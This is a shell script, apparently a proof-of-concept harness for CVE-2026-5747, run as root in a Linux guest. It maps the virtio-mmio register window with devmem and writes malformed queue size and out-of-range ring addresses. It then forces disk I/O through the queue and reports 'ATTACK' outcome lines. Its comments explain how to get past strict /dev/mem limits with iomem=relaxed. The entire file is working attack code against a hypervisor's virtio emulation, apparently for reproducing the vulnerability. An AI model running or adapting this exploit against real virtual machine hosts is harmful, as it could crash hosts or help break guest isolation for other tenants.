#!/bin/sh
# CVE-2026-5747 from a root process of the Linux guest, while virtio-blk is live: rewrite the
# queue registers of the virtio-mmio window with busybox `devmem`, read them back, then make the
# driver use the queue (O_DIRECT reads of /dev/vda).
#
# Debian's kernel is built with CONFIG_STRICT_DEVMEM=y and CONFIG_IO_STRICT_DEVMEM=y: /dev/mem
# refuses MMIO ranges a driver claimed (virtio_mmio claims its window) unless the kernel was
# booted with `iomem=relaxed`. Lockdown is not forced (CONFIG_LOCK_DOWN_KERNEL_FORCE_NONE=y), so
# with that parameter root may map the window. A guest's root controls its own command line, so
# this stays inside the threat model of the CVE.
#
# Output: one line `ATTACK linux-<what> observed key=value ...`.
set -u
window=$(grep -i 'LNRO0005' /proc/iomem | head -n 1 | sed 's/^ *//; s/-.*//')
if [ -z "$window" ]; then
    echo "ATTACK linux-queue-rewrite observed error=no-virtio-mmio-window"
    exit 1
fi
base=$((0x$window))
reg() { printf '0x%x' $((base + $1)); }
rd() { devmem "$(reg "$1")" 32 2>/dev/null || echo refused; }
wr() { devmem "$(reg "$1")" 32 "$2" 2>/dev/null || echo refused; }

attack() {  # name register value
    name=$1; off=$2; val=$3
    before_status=$(rd 0x070)
    wr 0x030 0                   # QueueSel = 0
    before=$(rd "$off")
    w=$(wr "$off" "$val")
    after=$(rd "$off")
    ok=0
    # enough requests to wrap a ring of up to 256 entries twice
    if dd if=/dev/vda of=/dev/null bs=4096 count=600 iflag=direct 2>/dev/null; then ok=1; fi
    echo "ATTACK linux-$name observed window=$(printf '0x%x' "$base") status=$before_status" \
         "before=$before write=${w:-done} after=$after io_ok=$ok status_after=$(rd 0x070)"
}

attack queue-num-huge 0x038 0xffff
attack queue-desc-outside 0x084 0x1
attack queue-device-outside 0x0a4 0x1
